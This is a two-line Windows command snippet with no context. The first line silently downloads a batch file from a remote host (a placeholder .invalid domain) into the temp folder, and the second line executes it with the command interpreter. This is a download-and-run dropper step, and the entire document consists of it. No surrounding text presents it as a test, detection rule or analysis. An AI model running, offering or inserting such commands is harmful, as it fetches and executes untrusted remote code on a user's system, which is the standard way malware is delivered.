curl -so "%TMP%\a.bat" https://cdn-x7.invalid/a
%COMSPEC% /c "%TMP%\a.bat"
